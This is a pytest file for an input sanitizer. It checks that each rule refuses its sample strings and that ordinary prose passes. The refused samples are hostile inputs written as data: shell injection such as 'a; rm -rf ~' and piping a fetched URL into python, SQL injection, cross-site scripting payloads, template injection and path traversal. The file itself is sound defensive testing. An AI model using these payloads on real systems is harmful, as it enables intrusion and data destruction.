"""Every rule by its examples, what people write beside them, and the table in docs/sanitizer.md."""

import re
from pathlib import Path

import pytest

from groundplan.domain.sanitizer import MAX_LENGTH, RULES, Policy, find_refusal

PAGE = Path(__file__).parents[2] / "docs" / "sanitizer.md"

# For each rule texts that it must name; under the policies where it stands.
REFUSED = {
    "too_long": ["x" * (MAX_LENGTH + 1)],
    "empty": ["", " \n"],
    "not_text": ["a\x00b", "broken \ud800", "end \uffff"],
    "control_character": ["bell \x07", "escape \x1b[0m", "delete \x7f", "csi \x9b", "feed \x0c"],
    "bidi_override": ["abc \u202etxt.exe", "abc \u2066def\u2069", "\u202dabc\u202c"],
    "hidden_text": ["Hello \U000e0041\U000e0042", "\U0001f3f4" + "\U000e0067" * 20],
    "code_evaluation": ["eval(input)", "then exec('x')", "__import__('os').getcwd()", "please eval ( 'x' )"],
    "code_process": [
        "system('cat notes')",
        "os.system(command)",
        "subprocess.Popen(arguments)",
        "phpinfo()",
        "Kernel.system('ls')",
        "setTimeout('x', 1)",
        "[].constructor.constructor('x')",
        "%x('ls -al /')",
    ],
    "code_internals": ["().__class__.__mro__", "x.__globals__"],
    "template_expression": ["{{7*7}}", "{{ get_user_file('x') }}", "{% for c in [1,2] %}", "<%= 7 * 7 %>"],
    "path_traversal": ["../../../../x", "read ../../etc/passwd", "..\\..\\windows\\win.ini"],
    "hidden_traversal": ["..%2f..%2fx", "%2e%2e/%2e%2e/x", "..%c0%afx"],
    "script_tag": ["<script>alert(1)</script>", "<SCRIPT SRC=//x.y>", "</script>", "< script >", "<svg:script>"],
    "event_handler": ["<x onmouseover=go>", "<img src=x onerror=alert(1)>", "onload=alert(1)", "<a 1='1'onfocus=x>"],
    "html_element": ["<svg>", "<iframe src=x>", "<a class=bar href='x'>", "<html:style />", "xmlns:x='u'"],
    "script_url": [
        "javascript:alert(1)",
        "go to JaVaScRiPt:void(0)",
        "data:text/html;base64,PHN",
        "vbscript:msgbox(1)",
    ],
    "script_call": [
        "'-alert(1)//",
        "prompt`1`",
        "top['alert'](1)",
        "document.location='x'",
        "confirm(document.domain)",
    ],
    "markup_declaration": [
        "<!DOCTYPE x [<!ENTITY y 'z'>]>",
        "<?php echo 1 ?>",
        "<!--#exec cmd='x' -->",
        "<![CDATA[x]]>",
    ],
    "markup_fragment": ["x='1'> and on", "]]> x"],
    "style_code": ["x:expression(y)", "-moz-binding: x", "@import 'x.css'", "background: url(javascript:x)"],
    "hidden_markup": ["&#0000060", "\\x3c", "%3c b", "+ADw-b+AD4-", "\\x27 or"],
    "hidden_control": ["a%00b", "a%0d%0aSet-Cookie", "name\\x00", "&#0; x"],
    "sql_query": [
        "select * from accounts",
        "select name, mail from users where id = 3",
        "SELECT @@version",
        "select current_setting('config_file')",
        "select password from users order by id",
    ],
    "sql_change": [
        "delete from users where id = 3",
        "'; delete from users",
        "insert into t (a, b) values (1, 2)",
        "update users set admin = 1",
        "UPDATE/**/users/**/SET/**/admin=1",
    ],
    "sql_definition": [
        "drop table if exists users",
        "x; drop table users --",
        "drop table users",
        "alter table users add admin int",
        "create table x (id int)",
        "truncate table logs;",
        "grant select on users to bob",
    ],
    "sql_procedure": [
        "exec master..sp_x",
        "waitfor delay '0:0:5'",
        "1 into outfile '/tmp/x'",
        "declare @a int",
        "case when 1 then 2",
    ],
    "sql_capitals": [
        "Then DROP TABLE users for good",
        "Then DELETE FROM users",
        "INSERT INTO t",
        "SELECT a FROM b",
        "CREATE USER bob",
    ],
    "sql_union": ["1 union select 2", "UNION ALL SELECT NULL", "x union/**/select y"],
    "sql_condition": ["x or 1=1", "') or ('x'='x", "and 'a' = 'a'", "or name=name", "1or1=1", "x'or'1", "where 1 <> 2"],
    "sql_cut_off": ["order by 3#", "x or 1 --", "uname like '%", "uni/**/on", "x; --"],
    "sql_quote": ["admin' or role = 2", "admin'--", "' or ''-'", "x' and email is null", "') -- ", "'-'", "1' or '1"],
    "sql_function": [
        "and sleep(5)",
        "pg_sleep(5)",
        "benchmark(1000,x)",
        "utl_http.request",
        "xp_cmdshell",
        "mid(version(),1)",
    ],
    "sql_catalogue": ["x from information_schema.tables", "join sysobjects", "name from mysql.user"],
    "sql_encoded": [
        "char(47,101)",
        "char(73)+char(78)",
        "concat(0x3a)",
        "cast(x as int)",
        "0x73656c656374202a",
        "x = unhex('41')",
    ],
    "query_filter": ["x)(|(uid=1", "*(mail=*)", "child::node"],
    "shell_command": [
        "a; rm -rf ~",
        "x | sh",
        "x && curl",
        "run `rm -rf /`",
        "fetch http://x.y/z | python",
        "a;id;",
        "now; cat /etc/motd",
        "x & ping example.com",
        "x | /usr/bin/id",
        "a\\nid",
        "x; which perl",
        "x | net user bob",
    ],
    "shell_operator": ["; go", "&& go", "|| go", "' | what", "| type it"],
    "shell_substitution": ["say $(name)", "${sleep(20)}", "cat$IFS", "a;$b"],
    "shell_redirection": ["save > /tmp/x", "x > out.txt", "x 2>&1", "</etc/passwd", "x >> ~/notes"],
    "shell_breakout": ["a);go", "a;{cmd}"],
    "shell_program": [
        "perl -e 'x'",
        'bash -c "x"',
        "rm -rf /tmp/x",
        "please cat /etc/passwd",
        "cmd /c go",
        "() { :;}; x",
    ],
    "shell_line": [
        "wget http://x.y",
        "'whoami'",
        "dir C:\\",
        "net user bob secret /add",
        "/bin/ls -al",
        "ping -n 3 10.0.0.1",
    ],
    "shell_metacharacter": ["R&D", "a < b", "a; b", "$5", "a | b", "`b`", "1 > 0", "πού;x", "a β;|", "x;"],
    "sql_word": ["Update inventory", "drop it", "please_delete", "INSERT coin"],
}

# What people write and prose must let pass, each beside the attack it resembles. One a line; tables and code follow.
_PROSE_LINES = """
Spend at most $500
$(500) was lost
R&D and Q&A, T&C apply
a; b; c
I <3 planning
a -> b --> c => d
x > 5 and y <= 3
price < $10 && > $5
AT&T; and others
$AAPL; $TSLA
A$AP Rocky
Salt & pepper; at the store
M&M's & Skittles; the kids' & parents' rooms
work; sleep 8 hours; ping the team; mail it; cut costs; watch the news
squats; curl; bench
date; time; host; type
Compare Python | Java | Ruby
Name | Date | Type
AT&T | T-Mobile | Verizon
Settings > General, or "Settings" > "General", or file > export > csv
<name>, <your address>, <<title>>
Email <bob@example.com>, see <https://a.b/c?d=e>
<b>bold</b>, <br>, <answer></answer>, <math problem>
Vue's <template> and React's <Link>
{{name}} and ${name} and {name} and ${Step 1.output}
Dear {first}; {last}
|x| < 5
f(x) = x; g(x) = 2
rename `id` to `user_id` in `config.yaml`
run `npm install` then `make test`
https://a.b/?sort=asc&find=all;x
true || false
foo; --verbose
ποια συσκευή είναι στην πρίζα;
全角：テスト；確認 A＆B
نعم؛ لا; ربما
&quot;Hello&quot; she said
rock 'n' roll; the '90s
""".strip().splitlines()
PASSES_PROSE = [
    *_PROSE_LINES,
    "| Name | Date |\n|------|------|\n| a | b |",
    '```json\n{"a": 1}\n```',
    "> quoted\n> example.json is quoted",
]
PASSES_STANDARD = [
    "Update inventory",
    "Delete the old records from the archive",
    "Insert the coin into the slot",
    "Drop table tennis from the schedule",
    "Drop the kids off, then find the cat",
    "Select a winner from the list of entries",
    "Select 2, 3 or 4 photos from the album",
    "Select user (or users) to invite",
    "Create table of contents (see below)",
    "Grant all requests and revoke all privileges from leavers",
    "Migrate from MySQL to Postgres, from master to main",
    "European union selected members",
    "Choose 1 or 2, and 2 + 2 = 4",
    "Set mode='dark' and theme='blue'",
    "Use '#' or '--' as a separator, or the '+' and '=' signs",
    'Buy a 15" or 17" monitor for a person 5\' 10" tall',
    "The users' and admins' roles, 'yes' or 'no'",
    '"or"\n"and"',
    "Call +1 (555) 123-4567 or '+15551234567'",
    "Evaluate the retrieval(augmented) pipeline of the exec (executive) team",
    "Explain what cat, rm and whoami do",
    "Print 'hello'",
    "Su casa es mi casa",
    "ποια συσκευή είναι στην πρίζα; Και «πού;»",
    "Move report.txt to /backup and read ../notes.md",
    "Format as %d items and %02d:%02d",
    "Regular expression(s), prompt(s), alert (high), confirm(ed)",
    "javascript: the good parts",
    "only = 3, once = true, online = yes",
    "100% sure, 20% more",
    "Convert 0xFF00FF and 0xde0b295669a9fd93d5f28d9ec85e40f4cb697bae",
    "«Да» или «нет», „Titel“ und mehr, 「はい」か「いいえ」、“yes” or “no”",
    'שלום "עולם" ו-צה"ל',
    "می‌خواهم برنامه‌ریزی کنم",
    "क्षेत्र की योजना बनाओ",
    "👩‍💻 and 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f 🎉",
]


@pytest.mark.parametrize("rule", REFUSED)
def test_each_rule_names_what_it_refuses(rule):
    standing = next(found.policies for found in RULES if found.name == rule)
    weakest = next(policy for policy in (Policy.PROSE, Policy.STANDARD, Policy.STRICT) if policy in standing)
    refusals = {text: find_refusal(text, weakest) for text in REFUSED[rule]}
    assert {text: refusal for text, refusal in refusals.items() if refusal is None or refusal.rule != rule} == {}


def test_every_rule_has_an_example_here():
    assert set(REFUSED) == {rule.name for rule in RULES}


def test_names_of_rules_are_unique_and_each_has_a_reason():
    names = [rule.name for rule in RULES]
    assert len(set(names)) == len(names)
    assert all(rule.reason and rule.policies and rule.finders for rule in RULES)


def refused(texts, policy):
    return {text: refusal for text in texts if (refusal := find_refusal(text, policy))}


def test_prose_lets_pass_what_people_write():
    assert refused(PASSES_PROSE, Policy.PROSE) == {}


@pytest.mark.parametrize("policy", [Policy.PROSE, Policy.STANDARD])
def test_prose_and_standard_let_pass_goals_without_metacharacters(policy):
    assert refused(PASSES_STANDARD, policy) == {}


def test_a_stricter_policy_refuses_whatever_a_weaker_one_does():
    texts = {text for texts in REFUSED.values() for text in texts}
    prose, standard, strict = (
        refused(texts, policy).keys() for policy in (Policy.PROSE, Policy.STANDARD, Policy.STRICT)
    )
    assert prose <= standard <= strict == texts


def test_the_page_lists_every_rule_with_its_policies():
    table = PAGE.read_text(encoding="utf-8").partition("## The rules")[2]
    rows = dict(re.findall(r"^\| `(\w+)` \| ([\w, ]+?) \|", table, flags=re.MULTILINE))
    assert rows == {rule.name: ", ".join(p.value for p in Policy if p in rule.policies) for rule in RULES}


def test_the_code_on_the_page_runs_and_gives_what_its_comments_say(capsys):
    code = re.search(r"```python\n(.*?)```", PAGE.read_text(encoding="utf-8"), flags=re.DOTALL)[1]
    names = {}
    exec(code, names)  # noqa: S102 - our own page
    said = dict(re.findall(r"^\s*(\w+)\(?.*?  # (.+)$", code, flags=re.MULTILINE))
    assert repr(names["text"]) == said["text"].replace('"', "'")
    assert capsys.readouterr().out.strip() == said["print"]
    assert repr(names["refusal"]) == said["refusal"]
